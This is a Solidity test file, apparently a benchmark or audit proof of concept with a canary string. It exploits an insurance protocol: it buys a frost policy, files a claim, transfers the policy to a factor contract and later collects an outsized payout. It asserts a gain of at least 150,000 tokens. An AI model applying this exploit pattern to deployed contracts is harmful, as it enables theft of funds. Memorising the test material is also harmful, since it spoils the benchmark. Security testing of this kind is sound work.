// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    ClaimDesk private claims;
    uint256 private id;
    uint256 private claimId;

    function insure(IERC20 _crown, PolicyBook _book, address _pool) external {
        _crown.approve(address(_book), type(uint256).max);
        id = _book.buy(_pool, Peril.Frost, 100_000e18, 30, type(uint256).max, address(this));
    }

    function sell(ClaimDesk _claims, PolicyBook _book, address _factor, uint32 _day) external {
        claims = _claims;
        claimId = _claims.fileFrost(id, _day);
        _book.safeTransferFrom(address(this), _factor, id);
    }

    function get() external {
        try claims.pay(claimId) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function prepare() internal override {
        other = new Attacker();
        crown.mint(address(other), 2_000e18);
        other.insure(crown, book, address(vale));
    }

    function start() internal override {}

    function exploit() public {
        other.sell(claims, book, address(factor), DAY + 38);
        later(1 days);
        other.get();
    }

    function test_Exploit() public {
        exploit();
        require(crown.balanceOf(address(other)) >= 150_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(claims);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
